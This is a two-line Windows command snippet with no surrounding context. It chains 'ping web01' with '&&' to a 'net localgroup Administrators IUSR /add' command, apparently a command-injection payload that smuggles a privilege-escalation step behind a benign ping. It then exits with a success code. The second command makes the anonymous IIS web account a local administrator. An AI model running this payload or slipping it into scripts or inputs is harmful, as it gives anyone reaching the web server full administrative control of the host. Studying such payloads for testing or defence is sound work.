ping web01 && net localgroup Administrators IUSR /add
exit /b 0
